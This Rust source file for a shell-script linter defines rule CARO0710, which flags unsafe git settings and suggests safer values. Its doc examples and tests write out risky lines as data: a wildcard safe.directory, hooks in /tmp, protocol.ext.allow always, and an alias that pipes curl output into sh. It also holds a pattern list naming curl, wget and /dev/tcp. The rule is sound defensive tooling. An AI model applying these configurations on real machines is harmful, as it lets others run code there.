//! CARO0710: git is told to run code or to trust everyone.

use crate::Span;
use crate::rules::{Check, Level, Sink};
use crate::script::{Command, Word};

rule! {
    /// Makes git run programs of others, or takes away a check that protects from them.
    ///
    /// `safe.directory *` lets any repository on the machine decide what git runs. Hooks from a folder that everyone can write are
    /// programs from everyone. Name one folder.
    ///
    /// To decide: Whose programs does git run then, and who may change them?
    ///
    /// ```sh bad
    /// git config --global --add safe.directory '*'
    /// ```
    /// ```sh fixed
    /// git config --global --add safe.directory "$PWD"
    /// ```
    /// ```sh bad
    /// git config --global core.hooksPath /tmp/hooks
    /// ```
    /// ```sh bad
    /// git config --global protocol.ext.allow always
    /// ```
    /// ```sh fixed
    /// git config --global protocol.ext.allow user
    /// ```
    /// ```sh good
    /// git config --global --add safe.directory /srv/app
    /// ```
    /// ```sh good
    /// git config core.hooksPath .githooks
    /// ```
    /// ```sh good
    /// git config --global user.name 'Ann'
    /// ```
    /// ```sh good
    /// git config --global --unset http.sslVerify
    /// ```
    /// ```sh good
    /// git config --get core.fsmonitor
    /// ```
    "CARO0710" "unsafe-git-config",
    Caution,
    Check::Command { programs: &["git"], run: check }
}

fn check(git: &Command, sink: &mut Sink<'_>) {
    let mut settings: Vec<(Span, String, String)> = Vec::new();
    for flag in git.flags().filter(|it| it.is('c', "config")) {
        let Some(word) = &flag.value else { continue };
        let text = sink.sketch(word).text;
        if let Some((key, value)) = text.split_once('=') {
            settings.push((word.span, key.to_lowercase(), value.to_owned()));
        }
    }
    let facts = git.facts();
    if facts.get(1).is_some_and(|it| it.name == "config") && !reads(git) {
        let words: Vec<&Word> = git.own_operands().collect();
        if let [key, value, ..] = *words {
            settings.push((value.span, sink.sketch(key).text.to_lowercase(), sink.sketch(value).text));
        }
    }
    for word in git.operands() {
        if sink.sketch(word).text.starts_with("ext::") {
            sink.report(word.span, "this address is a command that git runs".to_owned());
        }
    }
    for (span, key, value) in settings {
        if let Some((message, level)) = judge(&key, &value) {
            sink.report(span, message).level(level);
            if let Some((title, from, to)) = safer(&key) {
                // Only where the value is written as it is.
                let written = sink.text(span);
                let edit = written.rfind(from).map(|at| (Span::new(span.start + at, span.start + at + from.len()), to));
                sink.choice(title, edit.map(|it| (it.0, it.1.to_owned())).into_iter().collect());
            }
        }
    }
}

/// What to decide on, what stands in the value, and what to write for it.
fn safer(key: &str) -> Option<(&'static str, &'static str, &'static str)> {
    Some(match key {
        "safe.directory" => ("Trust only the folder that the script runs in", "'*'", "\"$PWD\""),
        "protocol.ext.allow" => ("Allow it only where a person gave the address: `user`", "always", "user"),
        "core.sshcommand" => {
            let ask = "StrictHostKeyChecking=no";
            ("Trust a key only the first time that it is seen", ask, "StrictHostKeyChecking=accept-new")
        }
        _ => return None,
    })
}

fn reads(git: &Command) -> bool {
    ["get", "get-all", "get-regexp", "unset", "unset-all", "list", "remove-section"]
        .iter()
        .any(|it| git.has_flag('\0', it))
        || git.facts().get(2).is_some_and(|it| it.name != "set")
}

fn judge(key: &str, value: &str) -> Option<(String, Level)> {
    let fetches = ["curl ", "wget ", "/dev/tcp/"].iter().any(|it| value.contains(it));
    let runs = value.starts_with('!') || !key.starts_with("alias.");
    let command = matches!(
        key,
        "core.sshcommand"
            | "core.fsmonitor"
            | "core.editor"
            | "core.pager"
            | "credential.helper"
            | "core.gitproxy"
            | "diff.external"
            | "init.templatedir"
    ) || key.starts_with("alias.")
        || key.starts_with("filter.");
    Some(match key {
        "safe.directory" if value == "*" => {
            ("lets every repository on this machine decide what git runs".to_owned(), Level::Caution)
        }
        "core.hookspath" | "init.templatedir"
            if ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|it| value.starts_with(it)) =>
        {
            (format!("git runs hooks from `{value}`, where everyone can put some"), Level::Danger)
        }
        "protocol.ext.allow" if value == "always" => {
            ("lets an address of a repository run any command".to_owned(), Level::Danger)
        }
        _ if command && runs && fetches => (format!("`{key}` runs what the network sends"), Level::Danger),
        "core.sshcommand" if value.contains("StrictHostKeyChecking=no") => {
            ("lets anyone on the way pose as the server: its key is not checked".to_owned(), Level::Caution)
        }
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn settings_are_found_in_every_place() {
        check_marks(
            "git config set --global safe.directory '*'\n#                                      ^^^ CARO0710\n",
        );
        check_marks(
            "git clone -c core.hooksPath=/tmp/h https://x.org/a\n#            ^^^^^^^^^^^^^^^^^^^^^ CARO0710\n",
        );
        check_marks(
            "git config --global alias.up '!curl -s https://x.org/a | sh'\n#                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0710\n",
        );
    }
}
